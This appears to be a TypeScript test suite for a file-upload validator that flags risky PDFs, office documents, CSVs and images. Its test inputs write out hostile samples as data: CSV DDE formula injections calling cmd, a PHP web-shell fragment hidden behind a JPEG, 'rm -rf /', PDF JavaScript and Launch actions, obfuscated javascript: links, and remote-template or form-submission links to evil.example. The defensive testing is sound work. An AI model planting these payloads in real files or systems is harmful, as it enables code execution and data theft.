import { deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { judge } from './judge.ts'
import {
  CATALOG,
  CSV,
  DOCX_PARTS,
  docxWith,
  GEOJSON,
  jpgOf,
  link,
  PDF,
  pdfOf,
  pdfWith,
  pngOf,
  relationsOf,
  streamOf,
  typesOf,
  XLSX_PARTS,
  xlsxWith,
} from './samples.fixture.ts'
import { zipOf } from './zip.fixture.ts'

const faultOf = (bytes: Buffer | string, ending: string) => {
  const verdict = judge(Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes), ending)
  return 'fault' in verdict ? verdict.fault : verdict
}
const taken = (kind: string, ...notes: string[]) => ({ kind, notes })

describe('what is as it should be', () => {
  it('is taken, by its content', () => {
    expect(faultOf(PDF, 'pdf')).toEqual(taken('pdf'))
    expect(faultOf(docxWith(), 'docx')).toEqual(taken('docx'))
    expect(faultOf(xlsxWith(), 'XLSX')).toEqual(taken('xlsx'))
    expect(faultOf(CSV, 'csv')).toEqual(taken('csv'))
    expect(faultOf(GEOJSON, 'geojson')).toEqual(taken('geojson'))
    expect(faultOf(GEOJSON, 'json')).toEqual(taken('geojson'))
    expect(faultOf(jpgOf(640, 480), 'jpeg')).toEqual(taken('jpg'))
    expect(faultOf(pngOf(640, 480), 'png')).toEqual(taken('png'))
  })

  it('under no name that ends otherwise', () => {
    const files = {
      pdf: PDF,
      docx: docxWith(),
      xlsx: xlsxWith(),
      csv: CSV,
      geojson: GEOJSON,
      jpg: jpgOf(1, 1),
      png: pngOf(1, 1),
    }
    for (const [kind, bytes] of Object.entries(files)) {
      for (const ending of [
        ...Object.keys(files).filter((one) => one !== kind),
        '',
        'exe',
        'html',
        'svg',
        `${kind}x`,
        'pdf.exe',
      ]) {
        expect([kind, ending, faultOf(bytes, ending)]).toEqual([kind, ending, 'ending'])
      }
    }
  })

  it('with the pictures, charts, fonts and links that office programs write', () => {
    const parts = [
      { name: 'word/media/image1.png', content: pngOf(9, 9) },
      { name: 'word/media/image2.jpeg', content: jpgOf(9, 9) },
      { name: 'word/media/image3.svg', content: '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>' },
      { name: 'word/fonts/font1.odttf', content: Buffer.alloc(64, 7) },
      { name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', content: xlsxWith() },
      { name: 'docProps/core.xml', content: '<?xml version="1.0" encoding="utf-8"?><cp:coreProperties/>' },
      relationsOf(
        'word/_rels/document.xml.rels',
        link('hyperlink', 'https://unfccc.int/a?b&amp;c', ' TargetMode="External"'),
      ),
    ]
    expect(faultOf(docxWith(...parts), 'docx')).toEqual(taken('docx', 'links'))
    const joined = { name: 'xl/worksheets/sheet3.xml', content: '<f>A1&amp;"|"&amp;B1</f><f>IF(A1=2,"DDE","no")</f>' }
    expect(faultOf(xlsxWith(joined), 'xlsx')).toEqual(taken('xlsx'))
    const printer = { name: 'xl/printerSettings/printerSettings1.bin', content: Buffer.alloc(220, 1) }
    expect(faultOf(xlsxWith(printer), 'xlsx')).toEqual(taken('xlsx'))
    const wide = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a/>', 'utf16le'),
    ])
    expect(faultOf(docxWith({ name: 'customXml/item1.xml', content: wide }), 'docx')).toEqual(taken('docx'))
  })

  it('told of what whoever opens it should know', () => {
    expect(faultOf('name\n=HYPERLINK("https://evil.example","x")\n', 'csv')).toEqual(taken('csv', 'formulas'))
    expect(faultOf('a,b\n1,"+cmd|\' /C calc\'!A0"\n', 'csv')).toEqual(taken('csv', 'formulas'))
    expect(faultOf('a;b\n1;@SUM(A1)\n', 'csv')).toEqual(taken('csv', 'formulas'))
    expect(faultOf('a,b\n-1,+2.5\n', 'csv')).toEqual(taken('csv'))
    const outside = relationsOf(
      'word/_rels/document.xml.rels',
      link('hyperlink', 'https://unfccc.int', ' TargetMode="External"'),
    )
    expect(faultOf(docxWith(outside), 'docx')).toEqual(taken('docx', 'links'))
    const field = { name: 'word/footer1.xml', content: '<w:instrText> HYPERLINK "mailto:a@b.example" </w:instrText>' }
    expect(faultOf(docxWith(field), 'docx')).toEqual(taken('docx', 'links'))
    const inner = { name: 'word/footer1.xml', content: '<w:instrText> HYPERLINK \\l "_Toc1" </w:instrText>' }
    expect(faultOf(docxWith(inner), 'docx')).toEqual(taken('docx'))
    for (const address of ['https://unfccc.int/a_\\(b\\)', 'http://a.example', 'mailto:a@b.example', 'annex.pdf'])
      expect(faultOf(pdfWith(`<< /S /URI /URI (${address}) >>`), 'pdf')).toEqual(taken('pdf', 'links'))
    const shown = pdfWith('<< /Title (javascript: what it is) /Contents (//) >>', '<< /BaseFont /Arial >>')
    expect(faultOf(shown, 'pdf')).toEqual(taken('pdf'))
    expect(faultOf(pdfOf('<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>'), 'pdf')).toEqual(
      taken('pdf', 'opens'),
    )
    expect(faultOf(jpgOf(2, 2, { behind: '\0\0SEFHe\0\0Image_UTC_Data1666' }), 'jpg')).toEqual(taken('jpg', 'more'))
  })
})

describe('a file that is two', () => {
  const html = '<html><script>alert(1)</script></html>'
  it.each([
    ['PDF and HTML', Buffer.from(`%PDF-1.7\n${html}\n%%EOF\n`), 'pdf', 'two-in-one'],
    ['HTML before a PDF', Buffer.concat([Buffer.from(html), PDF]), 'pdf', 'kind'],
    ['HTML behind a PDF', Buffer.concat([pdfWith(' '.repeat(5_000)), Buffer.from(html)]), 'pdf', 'behind'],
    ['an archive behind a PDF', Buffer.concat([PDF, zipOf(DOCX_PARTS)]), 'pdf', 'two-in-one'],
    [
      'an archive in a PDF, found from its end',
      Buffer.concat([PDF, zipOf(DOCX_PARTS, { comment: '\n%%EOF\n' })]),
      'pdf',
      'two-in-one',
    ],
    ['a PDF before an archive', zipOf(DOCX_PARTS, { before: PDF.toString('latin1') }), 'docx', 'two-in-one'],
    ['a program before an archive', zipOf(DOCX_PARTS, { before: 'MZ\x90\0' }), 'docx', 'kind'],
    [
      'something between the parts of an archive',
      zipOf(DOCX_PARTS, { between: '<script>alert(document.domain)</script>' }),
      'docx',
      'two-in-one',
    ],
    ['an archive with a comment', zipOf(DOCX_PARTS, { comment: html }), 'docx', 'behind'],
    ['a picture with a script behind it', jpgOf(2, 2, { behind: '<script>alert(1)</script>' }), 'jpg', 'two-in-one'],
    ['a picture with PHP behind it', jpgOf(2, 2, { behind: 'xx<?php system($_GET[0]);' }), 'jpg', 'two-in-one'],
    [
      'a picture with an archive behind it',
      jpgOf(2, 2, { behind: zipOf(DOCX_PARTS).toString('latin1') }),
      'jpg',
      'two-in-one',
    ],
    ['a picture with a page in its comment', jpgOf(2, 2, { comment: html }), 'jpg', 'two-in-one'],
    ['a PNG with a script behind it', pngOf(2, 2, '<script>alert(1)</script>'), 'png', 'two-in-one'],
    ['a PNG with anything behind it', pngOf(2, 2, 'x'), 'png', 'behind'],
    ['a text document that is a spreadsheet, too', docxWith(...XLSX_PARTS.slice(2)), 'docx', 'two-in-one'],
  ])('%s', (_name, bytes, ending, fault) => {
    expect(faultOf(bytes, ending)).toBe(fault)
  })
})

describe('a file that is none of these', () => {
  it.each([
    ['nothing', '', 'csv', 'empty'],
    ['white space', ' \n\n', 'csv', 'empty'],
    ['a page called CSV', '<!DOCTYPE html><script>alert(1)</script>', 'csv', 'kind'],
    ['a page behind white space', '\ufeff \n<html>', 'csv', 'kind'],
    ['a page in a cell', 'a,b\n1,<script>alert(1)</script>\n', 'csv', 'kind'],
    ['an SVG', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'svg', 'kind'],
    ['an SVG with a script', '<?xml version="1.0"?><svg><script>alert(1)</script></svg>', 'svg', 'kind'],
    ['an SVG called PNG', '<svg onload="alert(1)"/>', 'png', 'kind'],
    ['a script', '#!/bin/sh\nrm -rf /\n', 'csv', 'kind'],
    ['RTF', '{\\rtf1\\object}', 'csv', 'kind'],
    ['a program', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), 'csv', 'kind'],
    ['an old Word document', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'docx', 'kind'],
    ['an encrypted Word document', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'docx', 'kind'],
    ['an archive of something else', zipOf([{ name: 'a.txt', content: 'a' }]), 'docx', 'kind'],
    ['a text in another coding', Buffer.from([0x61, 0xe9, 0x2c, 0x62]), 'csv', 'text'],
    ['a text in UTF-16', Buffer.from('a,b', 'utf16le'), 'csv', 'kind'],
    ['JSON that is no map', '{"type":"Feature Collection"}', 'geojson', 'kind'],
    [
      'a map without geometry',
      '{"type":"Feature","geometry":{"type":"Point","coordinates":["1","2"]}}',
      'geojson',
      'broken',
    ],
    [
      'a map nested without end',
      `{"type":"GeometryCollection","geometries":[{"type":"GeometryCollection","geometries":[]}]}`,
      'geojson',
      'broken',
    ],
    ['deep JSON', `{"type":"Polygon","coordinates":${'['.repeat(100_000)}${']'.repeat(100_000)}}`, 'geojson', 'broken'],
  ])('%s', (_name, bytes, ending, fault) => {
    expect(faultOf(bytes, ending)).toBe(fault)
  })
})

describe('a PDF', () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
  it.each([
    ['with a script', pdfWith(script), 'active'],
    ['with a script when it is opened', pdfOf(`<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>`), 'active'],
    ['with a script whose name is disguised', pdfWith('<< /S /J#61v#61Script /JS (x) >>'), 'active'],
    ['with a tree of scripts', pdfOf('<< /Type /Catalog /Names << /JavaScript 3 0 R >> >>'), 'active'],
    ['that starts a program', pdfWith('<< /S /Launch /F (cmd.exe) >>'), 'active'],
    ['that hands a form over', pdfWith('<< /S /SubmitForm /F (https://evil.example) >>'), 'active'],
    ['with a form of XML', pdfWith('<< /XFA 4 0 R >>'), 'active'],
    ['that opens another file', pdfWith('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>'), 'remote'],
    ...[
      '(javascript:app.alert\\(1\\))',
      '(JavaScript:x)',
      '( java\\\nscript:x)',
      '(\\152avascript:x)',
      '(java\\tscript:x)',
      '(%6Aavascript:x)',
      '%comment\n(vbscript:x)',
      '<6A6176617363726970743A78>',
      '< 6a61 7661 7363 7269 7074 3a 78 >',
      '<FEFF006A006100760061007300630072006900700074003A>',
      '(data:text/html,x)',
      '(ms-msdt:/id)',
    ].map((value): [string, Buffer, string] => [
      `with a link that runs: ${value}`,
      pdfWith(`<< /S /URI /URI ${value} >>`),
      'active',
    ]),
    ...['(file:///C:/a.exe)', '(\\\\\\\\evil.example\\\\a)', '(//evil.example/a)', '(C:\\\\a.exe)'].map(
      (value): [string, Buffer, string] => [`with a link nearby: ${value}`, pdfWith(`<</URI${value}>>`), 'remote'],
    ),
    ['with a link whose name is disguised', pdfWith('<< /#55R#49 (javascript:x) >>'), 'active'],
    ['with links that begin so', pdfOf('<< /Type /Catalog /Pages 2 0 R /URI << /Base (javascript:) >> >>'), 'active'],
    ['with a link that stands elsewhere', pdfWith('<< /S /URI /URI 5 0 R >>', '(javascript:x)'), 'unusual'],
    ['with a link far from its name', pdfWith(`<< /S /URI /URI ${' '.repeat(2_000)}(javascript:x) >>`), 'unusual'],
    [
      'with a link that runs between two pieces',
      pdfWith(`<< /A (${'x'.repeat(1_048_576 - 100)}) ${'/B (y) '.repeat(20)} /URI (javascript:x) >>`),
      'active',
    ],
    [
      'with a link that runs in a packed object',
      pdfWith(streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', '3 0 << /S /URI /URI (javascript:x) >>')),
      'active',
    ],
    ['with a file in it', pdfWith(streamOf('/Type /EmbeddedFile', 'MZ')), 'embedded'],
    ['with a file in it that does not say so', pdfWith('<< /F (a.exe) /EF << /F 3 0 R >> >>'), 'embedded'],
    ['with a file in it, disguised', pdfWith('<< /F (a.exe) /#45F << /F 3 0 R >> >>'), 'embedded'],
    [
      'that is encrypted',
      Buffer.from(PDF.toString('latin1').replace('/Root', '/Encrypt 5 0 R /Root'), 'latin1'),
      'locked',
    ],
    [
      'with a script in a packed object',
      pdfWith(streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', `3 0 ${script}`)),
      'active',
    ],
    [
      'with a script in a packed object that does not say so',
      pdfWith(streamOf('/N 1 /First 4 /Filter /FlateDecode', `3 0 ${script}`), '<< /Type /XRef >>'),
      'active',
    ],
    ['with a script in differences', pdfWith(upRows(`3 0 ${script}`)), 'active'],
    [
      'with packed objects in an odd coding',
      pdfWith(streamOf('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', hex(script), (bytes) => bytes)),
      'unusual',
    ],
    [
      'that unpacks to more than is taken',
      pdfWith(streamOf('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.alloc(140_000_000))),
      'bomb',
    ],
    ['without an end', PDF.subarray(0, PDF.length - 10), 'broken'],
    ['without a version', Buffer.from('%PDF-x\n%%EOF'), 'broken'],
  ])('%s', (_name, bytes, fault) => {
    expect(faultOf(bytes, 'pdf')).toBe(fault)
  })

  it('may be packed as most are, and say where it opens', () => {
    const packed = streamOf(
      '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
      `3 0 ${CATALOG.replace('>>', '/OpenAction [3 0 R /Fit] >>')}`,
    )
    expect(faultOf(pdfWith(packed, '<< /Type /XRef >>'), 'pdf')).toEqual(taken('pdf', 'opens'))
  })

  function upRows(text: string): Buffer {
    const width = 8
    const padded = Buffer.from(text.padEnd(Math.ceil(text.length / width) * width))
    const rows: number[] = []
    for (let at = 0; at < padded.length; at++) {
      if (at % width === 0) rows.push(2)
      rows.push(((padded[at] ?? 0) - (at < width ? 0 : (padded[at - width] ?? 0)) + 256) % 256)
    }
    const parameters = '/DecodeParms << /Predictor 12 /Columns 8 >>'
    return streamOf(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ${parameters}`, Buffer.from(rows))
  }

  function hex(text: string): string {
    return Buffer.from(`3 0 ${text}`).toString('hex')
  }
})

describe('a document of an office program', () => {
  const external = ' TargetMode="External"'
  const rels = 'word/_rels/document.xml.rels'
  const deep = docxWith({
    name: 'word/embeddings/a.docx',
    content: docxWith({ name: 'word/embeddings/b.docx', content: docxWith() }),
  })
  const zeros = Buffer.alloc(60_000_000, '<a/>')
  it.each([
    ['with macros', docxWith({ name: 'word/vbaProject.bin', content: 'x' }), 'macros'],
    ['with macros under another name', docxWith(relationsOf(rels, link('vbaProject', 'harmless.xml'))), 'macros'],
    [
      'of a type with macros',
      zipOf([typesOf('word/document.xml', 'wordprocessingml.document.main+xml macroEnabled'), ...DOCX_PARTS.slice(1)]),
      'macros',
    ],
    ['with a control', docxWith({ name: 'word/activeX/activeX1.xml', content: '<ax:ocx/>' }), 'active'],
    [
      'with an object',
      docxWith({ name: 'word/embeddings/oleObject1.bin', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }),
      'embedded',
    ],
    ['with a program called a picture', docxWith({ name: 'word/media/image1.emf', content: 'MZ\x90\0' }), 'embedded'],
    ['with a page', docxWith({ name: 'word/afchunk.htm', content: '<html/>' }), 'embedded'],
    ['with a picture that is none', docxWith({ name: 'word/media/image1.png', content: 'GIF89a' }), 'broken'],
    [
      'with a script in an SVG',
      docxWith({ name: 'word/media/image1.svg', content: '<svg><script>1</script></svg>' }),
      'active',
    ],
    ['with a handler in an SVG', docxWith({ name: 'word/media/image1.svg', content: '<svg onload="a()"/>' }), 'active'],
    ...['http://evil.example/i.png', '\\\\evil.example\\i.png', 'file:///C:/i.png'].map(
      (target): [string, Buffer, string] => [
        `with a picture from elsewhere: ${target}`,
        docxWith(relationsOf(rels, link('image', target, external))),
        'remote',
      ],
    ),
    ...['file:///C:/a.exe', '\\\\evil.example\\a', 'FILE://evil.example/a'].map((target): [string, Buffer, string] => [
      `with a link nearby: ${target}`,
      docxWith(relationsOf(rels, link('hyperlink', target, external))),
      'remote',
    ]),
    [
      'with a field that is a link nearby',
      docxWith({ name: 'word/footer1.xml', content: '<w:instrText>HYPERLINK "file:///C:/a.exe"</w:instrText>' }),
      'remote',
    ],
    [
      'with a template from elsewhere',
      docxWith(relationsOf(rels, link('attachedTemplate', 'https://evil.example/t.dotm', external))),
      'remote',
    ],
    [
      'with an object from elsewhere, disguised',
      docxWith(relationsOf(rels, link('oleObject', 'https://evil.example', ' TargetMode="&#69;xternal"'))),
      'remote',
    ],
    [
      'with a link that runs',
      docxWith(relationsOf(rels, link('hyperlink', 'javascript:alert(1)', external))),
      'active',
    ],
    [
      'with a field that runs',
      docxWith({
        name: 'word/footer1.xml',
        content: '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd.exe</w:instrText>',
      }),
      'remote',
    ],
    [
      'with a simple field that fetches',
      docxWith({ name: 'word/footer1.xml', content: '<w:fldSimple w:instr=" dde &quot;cmd&quot; x"/>' }),
      'remote',
    ],
    [
      'with a field behind another that fetches',
      docxWith({
        name: 'word/footer1.xml',
        content:
          '<w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText> INCLUDEPICTURE http://evil.example</w:instrText>',
      }),
      'remote',
    ],
    [
      'with a formula that runs',
      xlsxWith({ name: 'xl/worksheets/sheet2.xml', content: "<f>cmd|'/C calc'!A0</f>" }),
      'remote',
    ],
    [
      'with definitions',
      docxWith({ name: 'word/styles.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
      'unusual',
    ],
    [
      'in a coding that hides',
      docxWith({ name: 'word/styles.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }),
      'unusual',
    ],
    ['in a document in a document', deep, 'embedded'],
    ['that is encrypted', docxWith({ name: 'word/a.xml', content: 'x', flags: 1 }), 'locked'],
    ['that unpacks to much more', docxWith({ name: 'word/a.xml', content: zeros }), 'bomb'],
    [
      'that unpacks to too much in all',
      docxWith(
        ...Array.from({ length: 70 }, (_, at) => ({ name: `word/${at}.xml`, content: zeros.subarray(0, 4_000_000) })),
      ),
      'bomb',
    ],
    [
      'whose inner document unpacks to too much',
      docxWith(
        ...Array.from({ length: 2 }, (_, at) => ({
          name: `word/embeddings/${at}.docx`,
          content: docxWith(
            ...Array.from({ length: 40 }, (_, nth) => ({
              name: `word/${nth}.xml`,
              content: zeros.subarray(0, 4_000_000),
            })),
          ),
        })),
      ),
      'bomb',
    ],
    ['that says less than it unpacks to', docxWith({ name: 'word/a.xml', content: zeros, size: 100 }), 'bomb'],
    ['that says more than it unpacks to', docxWith({ name: 'word/a.xml', content: 'x', size: 100 }), 'broken'],
    [
      'of many parts',
      zipOf([...DOCX_PARTS, ...Array.from({ length: 2_000 }, (_, at) => ({ name: `${at}.xml`, content: '' }))]),
      'bomb',
    ],
    ['of parts that lie over one another', docxWith({ name: 'word/a.xml', content: 'x', local: 0 }), 'bomb'],
    ['with a part twice', docxWith({ name: 'WORD/document.xml', content: 'x' }), 'unusual'],
    ['with a part elsewhere', docxWith({ name: '../../etc/passwd.xml', content: 'x' }), 'unusual'],
    ['with a part on another disk', docxWith({ name: 'C:\\a.xml', content: 'x' }), 'unusual'],
    ['with a part at the root', docxWith({ name: '/etc/a.xml', content: 'x' }), 'unusual'],
    ['with a part whose name ends early', docxWith({ name: 'word/a.xml\0.png', content: 'x' }), 'unusual'],
    ['that is cut off', docxWith().subarray(0, 400), 'broken'],
  ])('%s', (_name, bytes, fault) => {
    expect(
      faultOf(bytes, bytes.includes('xl/workbook.xml') && !bytes.includes('word/document.xml') ? 'xlsx' : 'docx'),
    ).toBe(fault)
  })
})

describe('a picture', () => {
  it('of more pixels than is taken, or cut off, is not', () => {
    expect(faultOf(pngOf(60_000, 60_000), 'png')).toBe('pixels')
    expect(faultOf(jpgOf(60_000, 60_000), 'jpg')).toBe('pixels')
    expect(faultOf(pngOf(0, 7), 'png')).toBe('broken')
    expect(faultOf(pngOf(9, 9).subarray(0, 40), 'png')).toBe('broken')
    expect(faultOf(jpgOf(9, 9).subarray(0, 45), 'jpg')).toBe('broken')
  })
})

it('whatever the bytes are, they are judged, and cut or changed ones soon', () => {
  const samples = [
    PDF,
    docxWith({ name: 'word/media/image1.png', content: pngOf(9, 9) }),
    xlsxWith(),
    jpgOf(9, 9),
    pngOf(9, 9),
    GEOJSON,
    CSV,
  ]
  const change = fc.record({
    sample: fc.constantFrom(...samples),
    cut: fc.double({ min: 0, max: 1, noNaN: true }),
    at: fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }),
    bytes: fc.uint8Array({ maxLength: 8 }),
  })
  fc.assert(
    fc.property(
      change,
      fc.constantFrom('pdf', 'docx', 'xlsx', 'jpg', 'png', 'csv', 'geojson'),
      ({ sample, cut, at, bytes }, ending) => {
        const changed = Buffer.from(sample.subarray(0, Math.ceil(sample.length * cut)))
        changed.set(
          bytes.slice(0, Math.max(0, changed.length - Math.floor(changed.length * at))),
          Math.floor(changed.length * at),
        )
        const verdict = judge(changed, ending)
        expect('fault' in verdict || verdict.kind === ending).toBe(true)
      },
    ),
    { numRuns: 3_000 },
  )
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => void judge(Buffer.from(bytes), 'csv')),
    { numRuns: 2_000 },
  )
})

/** Were one of these read again from each place in it, that would take hours. */
it('what asks to be read again and again is read once', () => {
  const packed = deflateSync(Buffer.alloc(100)).toString('latin1')
  const long: [string | Buffer, string][] = [
    [`%PDF-1.7\n${'/#41'.repeat(300_000)}\n%%EOF`, 'pdf'],
    [`%PDF-1.7\n/ObjStm ${'stream\n'.repeat(200_000)}\n%%EOF`, 'pdf'],
    [Buffer.from(`%PDF-1.7\n/ObjStm ${`stream\n${packed}`.repeat(20_000)}\n%%EOF`, 'latin1'), 'pdf'],
    [`${'"'.repeat(1_000_000)},=`, 'csv'],
    ['-,'.repeat(1_000_000), 'csv'],
    [docxWith({ name: 'word/a.xml', content: '<Relationship '.repeat(250_000) }), 'docx'],
    [docxWith({ name: 'word/_rels/a.rels', content: '<Relationship '.repeat(250_000) }), 'docx'],
    [docxWith({ name: 'word/media/a.svg', content: ' on'.repeat(300_000) }), 'docx'],
  ]
  for (const [bytes, kind] of long) expect(faultOf(bytes, kind)).toMatchObject({ kind })
}, 120_000)
